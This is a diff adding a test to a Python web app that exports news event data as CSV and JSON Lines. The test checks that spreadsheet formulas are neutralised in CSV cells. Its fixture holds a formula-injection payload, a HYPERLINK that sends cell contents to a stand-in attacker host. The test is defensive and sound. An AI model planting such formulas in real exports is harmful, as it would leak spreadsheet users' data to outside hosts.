@@ -14,6 +14,7 @@ with warnings.catch_warnings():
     warnings.simplefilter("ignore")
     from fastapi.testclient import TestClient
 
+from aliansi.store import open_store  # noqa: E402
 from aliansi.web import create_app  # noqa: E402
 from aliansi.web.app import CSP, MAX_BODY, MAX_PAGE  # noqa: E402
 from webcorpus import IMG, PWNED, SCRIPT, stored  # noqa: E402
@@ -148,6 +149,27 @@ def test_web_csv_and_jsonl_downloads_hold_the_whole_list(client):
     assert len(rows) == total and all("JPN" in r["source"] + r["target"] for r in rows)
     lines = client.get("/api/v1/events", params={"actor": "JPN", "format": "jsonl"}).text
     assert [json.loads(x)["id"] for x in lines.splitlines()] == [r["id"] for r in rows]
+
+
+def test_web_csv_download_cells_never_run_as_formulas(tmp_path):
+    """Text from an article that starts like a formula is shown, not run, by a
+    spreadsheet opening the CSV download; the JSON Lines download keeps it as it is."""
+    from builders import article_with_events
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Indonesia dan Jepang bertemu")'
+    article = article_with_events("formula-1", "2025-11-20", "id", [(formula, [dict(
+        type="CONSULT", source=["IDN"], target=["JPN"], date="2025-11-20")])],
+        outlet="@outlet", url="https://news.example/formula-1")
+    location = str(tmp_path / "events.db")
+    with open_store(location) as store:
+        store.ingest([article])
+    with TestClient(create_app(location)) as c:
+        (row,) = csv.DictReader(io.StringIO(c.get("/api/v1/events",
+                                                  params={"format": "csv"}).text))
+        (line,) = c.get("/api/v1/events", params={"format": "jsonl"}).text.splitlines()
+    assert row["evidence"] == "'" + formula and row["outlet"] == "'@outlet"
+    assert row["url"] == "https://news.example/formula-1" and row["source"] == "IDN"
+    assert json.loads(line)["evidence"] == formula
 
 
 def test_web_review_needs_the_token_and_changes_the_lists(client):
